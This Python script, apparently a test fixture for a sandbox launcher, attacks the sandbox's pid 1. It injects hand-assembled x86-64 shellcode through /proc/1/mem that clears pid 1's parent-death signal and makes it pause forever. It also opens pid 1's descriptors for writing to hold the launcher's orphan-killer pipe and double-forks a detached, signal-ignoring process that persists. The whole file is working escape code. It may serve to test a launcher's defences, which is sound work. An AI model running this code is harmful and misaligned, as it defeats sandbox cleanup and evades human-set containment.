"""The attack of a function on pid 1 of its sandbox, as a command: `disarm.py DESCRIPTOR`, x86-64 only.

Where pid 1 can be written, it is made to clear its parent-death signal and to do nothing else any more. The pipe that
it holds for the launcher's orphan killer is opened for writing. A grandchild in a session of its own then writes one
byte to the descriptor, `d` for a disarmed pid 1 or `-` for one that cannot be reached, and stays.
"""

from __future__ import annotations

import contextlib
import os
import platform
import signal
import sys
import time

# prctl(PR_SET_PDEATHSIG, 0), setsid(), then pause() for ever.
_CODE = bytes.fromhex(
    "b89d000000 bf01000000 31f6 31d2 4d31d2 4d31c0 0f05 b870000000 0f05 b822000000 0f05 ebf7".replace(" ", "")
)


def disarm() -> bool:
    """Put code into pid 1 where it waits, and wait until it runs; return whether it can be written."""
    try:
        memory = os.open("/proc/1/mem", os.O_RDWR)
        with open("/proc/1/syscall") as file:
            place = int(file.read().split()[-1], 16)
        os.pwrite(memory, _CODE, place)
    except (OSError, ValueError):
        return False
    if os.fork() == 0:  # an orphan, whose end pid 1 is woken by
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
    os.wait()
    while open("/proc/1/syscall").read().split()[0] != "34":  # not yet in pause()
        time.sleep(0.001)
    return True


def hold_the_pipe() -> list[int]:
    """Open for writing what pid 1 has open."""
    held = []
    with contextlib.suppress(OSError):
        for number in os.listdir("/proc/1/fd"):
            with contextlib.suppress(OSError):
                held.append(os.open(f"/proc/1/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
    return held


def attack() -> str:
    """Do all of it; return the letter."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    held = hold_the_pipe()
    disarmed = platform.machine() == "x86_64" and disarm()
    return "d" if disarmed and held else "-"


if __name__ == "__main__":
    letter = attack()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(int(sys.argv[1]), letter.encode())
            signal.pause()
        os._exit(0)
    signal.pause()
